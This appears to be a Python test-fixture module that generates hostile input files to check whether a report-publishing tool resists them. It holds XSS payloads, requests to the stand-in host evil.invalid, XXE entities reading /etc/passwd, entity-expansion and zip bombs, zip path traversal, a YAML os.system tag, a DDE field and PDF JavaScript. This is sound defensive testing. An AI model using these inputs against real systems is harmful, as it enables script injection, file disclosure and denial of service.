"""Eighty files that somebody may put among the reports, to break a build or to run something in a reader's browser.

Every payload that came alive would call `alert`, ask ``evil.invalid`` for something, or set ``window.pwned``.
"""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable, Iterator

from handbook.reading.rules import limits
from making_pdf import Sheet, Shown, pdf
from office_files import docx, zipped
from project import Project

HEAD = "青石县粮食局党支部{}年工作总结\n一、主要做法\n"
BODY = "今年以来，支部落实三会一课制度，召开党员大会四次。\n"
ALIVE = "window.pwned=1;alert(1)"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def text(inside: str) -> bytes:
    return (HEAD.format(2023) + inside + "\n" + BODY).encode("utf-8", "surrogatepass")


def page(inside: str, head: str = "") -> bytes:
    return (
        f"<!doctype html><html><head><meta charset=utf-8>{head}<title>总结</title></head><body>"
        f"<h1>青石县粮食局2023年工作总结</h1><p>一、主要做法</p><p>{BODY}</p>{inside}</body></html>"
    ).encode()


def word(inside: str, **more: str) -> bytes:
    body = f"<w:p><w:r><w:t>青石县粮食局2023年工作总结</w:t></w:r></w:p>{inside}<w:p><w:r><w:t>{BODY}</w:t></w:r></w:p>"
    return docx({"body": body}, **more)


MARKUP = {
    "script": f"<script>{ALIVE}</script>",
    "closing": f"</title></textarea></style></script><script>{ALIVE}</script>",
    "image": f'"><img src=x onerror="{ALIVE}">',
    "vector": f'<svg onload="{ALIVE}"><script>{ALIVE}</script></svg>',
    "maths": f'<math><mtext><img src=x onerror="{ALIVE}"></mtext></math>',
    "frame": f'<iframe srcdoc="<script>parent.{ALIVE}</script>"></iframe>',
    "object": '<object data="https://evil.invalid/a.swf"></object><embed src="https://evil.invalid/b">',
    "form": '<form action="https://evil.invalid/"><input autofocus onfocus="alert(1)"></form>',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.invalid/">',
    "base": '<base href="https://evil.invalid/">',
    "link": '<link rel=stylesheet href="https://evil.invalid/a.css"><link rel=preload href="https://evil.invalid/">',
    "style": '<style>@import "https://evil.invalid/a.css";body{background:url(https://evil.invalid/b)}</style>',
    "details": f'<details open ontoggle="{ALIVE}"><summary>x</summary></details>',
    "address": '<a href="javascript:alert(1)">点这里</a><a href="JaVaScRiPt&colon;alert(1)">这里</a>',
    "data": '<a href="data:text/html,<script>alert(1)</script>">数据</a>',
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt;&#60;script&#62;alert(1)&#60;/script&#62;",
    "comment": f"<!--><script>{ALIVE}</script>-->",
    "cdata": f"<![CDATA[<script>{ALIVE}</script>]]>",
    "template": "{{ 7*7 }}{% include 'index.html' %}{{ config.__class__.__mro__ }}{# #}",
    "frame of ours": "@@handbook:content@@ @@handbook:title@@ <!--handbook-->",
    "markdown": "[点](javascript:alert(1)) ![图](https://evil.invalid/a.png) <https://evil.invalid/>",
    "literal": "`${alert(1)}` \\u003cscript\\u003ealert(1)\\u003c/script\\u003e \u2028alert(1)\u2029",
    "query": "#q=</script><script>alert(1)</script>&report:'\"><b>",
}
CHARACTERS = {
    "bidi": "\u202e倒写\u202c\u2066隔开\u2069\u200f右",
    "controls": "\x00\x01\x07\x08\x0b\x1b[31m\x7f\x85\x9b",
    "zero width": "支\u200b部\u200c党\u200d员\u2060大\ufeff会",
    "surrogate": "半个\ud83d字\udc00",
    "nonchars": "\ufffe\uffff\ufdd0\U0010ffff",
    "private": "\ue000\uf8ff\U000f0000",
    "combining": "党" + "\u0301" * 2000,
    "emoji": "👨‍👩‍👧‍👦🏳️‍🌈" * 200,
    "tags": "\U000e0001\U000e0041\U000e007f",
    "wide": "Ａ１＜ｓｃｒｉｐｔ＞ａｌｅｒｔ（１）＜／ｓｃｒｉｐｔ＞",
    "ligatures": "\ufdfa" * 3000,
}
BILLION = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "好好好好好好好好好好">'
    + "".join(f'<!ENTITY {new} "{f"&{old};" * 10}">' for old, new in zip("abcdefgh", "bcdefghi", strict=True))
    + "]>"
)
OUTSIDE = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">'
    '<!ENTITY r SYSTEM "https://evil.invalid/x">]>'
)
FLAT = (
    '<w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml"><w:body><w:p><w:r><w:t>'
    "青石县粮食局总结&{};</w:t></w:r></w:p></w:body></w:wordDocument>"
)


def bomb(megabytes: int) -> bytes:
    """A Word file whose text unpacks into so much."""
    return zipped({"word/document.xml": b"<w:document><w:body>" + b" " * (megabytes << 20)})


def many_parts(count: int) -> bytes:
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_STORED) as archive:
        for number in range(count):
            archive.writestr(f"word/media/{number}", b"")
        archive.writestr("word/document.xml", word("")[:0] or b"<w:document/>")
    return data.getvalue()


def script_pdf() -> bytes:
    note = f"/Type /Annot /Subtype /Link /Rect [0 0 99 99] /A << /S /JavaScript /JS ({ALIVE}) >>"
    return pdf([Sheet([Shown("青石县粮食局2023年工作总结", 100, 700), Shown(BODY.strip(), 100, 600)], notes=[note])])


def long_pdf(pages: int) -> bytes:
    return pdf([Sheet([Shown(f"{BODY.strip()}第{number}页。", 60, 700, 12)]) for number in range(pages)])


MADE: dict[str, Callable[[], bytes]] = {
    # shapes of text
    "one-line.txt": lambda: text(BODY.strip() * 60_000),
    "fifty-megabytes.txt": lambda: b"x" * (50 << 20),
    "short-lines.txt": lambda: text("".join(f"会{n}\n" for n in range(limits()["lines"] - 10))),
    "too-many-lines.txt": lambda: text("".join(f"会{n}\n" for n in range(100_000))),
    "blank-lines.txt": lambda: text("\n" * 1_000_000),
    "numbers.txt": lambda: text("".join(f"{n}.{n}" for n in range(30_000))),
    "brackets.txt": lambda: text("（" * 20_000 + "）" * 20_000 + "《" * 20_000),
    "quotes.txt": lambda: text("“" * 30_000),
    "markers.txt": lambda: text("".join("一是" for _ in range(30_000))),
    "same.txt": lambda: text("的" * 200_000),
    "stars.txt": lambda: text("*" * 300_000),
    "headings.txt": lambda: text("".join(f"（{n}）标题\n" for n in range(20_000))),
    "markdown.md": lambda: text("[" * 20_000 + "](" * 20_000),
    "emphasis.md": lambda: text("**a " * 30_000),
    "front.md": lambda: b"---\n" + b"a: &a [*a,*a]\n" * 1000 + b"---\n" + text(""),
    "tags.md": lambda: b"---\n!!python/object/apply:os.system ['touch pwned']\n---\n" + text(""),
    # pages
    "deep.html": lambda: page("<div>" * 20_000 + "x"),
    "attributes.html": lambda: page(f"<p {' '.join(f'a{n}=1' for n in range(50_000))}>x</p>"),
    "unclosed.html": lambda: page("<p <p <p" * 20_000),
    "tables.html": lambda: page("<table><tr><td>" * 3_000),
    "rows.html": lambda: page("<table>" + "<tr><td>a</td><td>b</td></tr>" * 20_000 + "</table>"),
    "lists.html": lambda: page("<ul><li>" * 3_000),
    "base.html": lambda: page('<a href="a">链</a>', '<base href="javascript:alert(1)//">'),
    "refresh.html": lambda: page("", '<meta http-equiv=refresh content="0;url=javascript:alert(1)">'),
    "charset.html": lambda: page("", '<meta charset="utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-'),
    # Word
    "bomb.docx": lambda: bomb(300),
    "parts.docx": lambda: many_parts(20_000),
    "entities.doc": lambda: (BILLION + FLAT.format("i")).encode(),
    "outside.doc": lambda: (OUTSIDE + FLAT.format("e")).encode(),
    "remote.doc": lambda: (OUTSIDE + FLAT.format("r")).encode(),
    "deep.docx": lambda: word("<w:sdt><w:sdtContent>" * 4_000),
    "macros.docx": lambda: word("", **{"word/vbaProject.bin": "Sub AutoOpen()", "word/activeX/a.xml": "<a/>"}),
    "field.docx": lambda: word(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\x "calc"</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    ),
    "unclosed.docx": lambda: word("<w:p><w:r><w:t>没有关"),
    "names.docx": lambda: zipped({"../../pwned.txt": b"x", "/etc/pwned": b"x", "word/document.xml": b"<a/>"}),
    "cut.docx": lambda: word("")[:-200],
    "ole.doc": lambda: OLE + bytes(100_000),
    "ole-names.doc": lambda: OLE + "WordDocument".encode("utf-16-le") + bytes(range(256)) * 400,
    # the rest
    "groups.rtf": lambda: b"{\\rtf1 " + b"{" * 500_000,
    "binary.rtf": lambda: b"{\\rtf1 \\bin999999999 x}",
    "object.rtf": lambda: b"{\\rtf1 {\\object\\objdata " + b"0" * 200_000 + b"}}",
    "script.pdf": script_pdf,
    "long.pdf": lambda: long_pdf(1000),
    "cut.pdf": lambda: long_pdf(5)[:900],
    "loop.pdf": lambda: b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 1 0 R>>endobj\ntrailer<</Root 1 0 R>>",
    "parts.mht": lambda: (
        b"MIME-Version: 1.0\nContent-Type: multipart/related; boundary=x\n\n"
        + b"--x\nContent-Type: text/html\n\n" * 5_000
    ),
    "nested.mht": lambda: b"MIME-Version: 1.0\n" + b"Content-Type: multipart/mixed; boundary=x\n\n--x\n" * 2_000,
    "random.txt": lambda: bytes((n * 7919) % 251 for n in range(200_000)),
    "random.docx": lambda: b"PK\x03\x04" + bytes((n * 7919) % 251 for n in range(100_000)),
    "utf16.txt": lambda: b"\xff\xfe" + text("").decode().encode("utf-16-le")[:-1],
    "nul.txt": lambda: b"\x00" * 100_000 + text(""),
}


def files() -> Iterator[tuple[str, Callable[[], bytes]]]:
    """Name → how the bytes are made, each by itself: some are large."""
    for name, inside in (MARKUP | CHARACTERS).items():
        yield f"{name.replace(' ', '-')}.txt", lambda inside=inside: text(inside)  # type: ignore[misc]
    for name in ("script", "image", "address", "style"):
        yield f"{name}.html", lambda name=name: page(MARKUP[name])  # type: ignore[misc]
    yield from MADE.items()


# ── a site of them ───────────────────────────────────────────────────────────────────────────────────────────────

SCRIPT = "</title></textarea></script><script>alert(1)</script>"
PICTURE = '"><img src=x onerror=alert(1)>'
SYNTAX = "{{ 7*7 }}{% include 'x' %}@@handbook:content@@ **粗** [链](javascript:alert(1)) `码`"
CONTROLS = "\u202e倒写\u2066\x07\x1b[31m"
LINES = [
    f"{SCRIPT}{PICTURE}青石县粮食局党支部2023年工作总结{SYNTAX}",
    f"一、{PICTURE}{SCRIPT}主要做法{CONTROLS}",
    f"（一）{SYNTAX}落实三会一课。{SCRIPT}坚持第一议题，读《<b>党章</b>》，开会**次。{CONTROLS}",
    f"二、下一步打算{SYNTAX}",
    f"以{PICTURE}为抓手，推动{SYNTAX}工作走深走实。",
]
"""A report that is payload in title, headings and text."""
NAME = "坏\" onclick='alert(1)'><b>&lt;\u202etxt.{{ 7*7 }}.txt"
SMALL = (
    "front.md", "tags.md", "base.html", "refresh.html", "charset.html", "outside.doc", "remote.doc", "macros.docx",
    "field.docx", "names.docx", "script.pdf", "utf16.txt",
)  # fmt: skip
"""Of `MADE` what is no size."""
CORRECTED = f"corrections:\n- {{file: script.txt, reason: '{PICTURE}', title: '{SCRIPT}{PICTURE}2023年工作总结'}}\n"


def fill(project: Project) -> Project:
    """Put what may come alive into a project: reports, their names, corrections, the edition's name."""
    for name, made in files():
        if name not in MADE or name in SMALL:
            project.report(name, made())
    for name, lines in ((NAME, LINES), ("nul.txt", ["\x00\x00", *LINES, "\x00"])):
        text_ = "\n".join(lines).replace("2023", "2022" if name == "nul.txt" else "2023")
        try:
            project.report(name, text_)
        except OSError:  # no such names on this disk
            project.report("bad.txt", text_)
    (project.folder / "docs" / "corrections.yml").write_text(CORRECTED, "utf-8")
    project.configure('edition: ""', "edition: '<i>第1版&'")
    return project
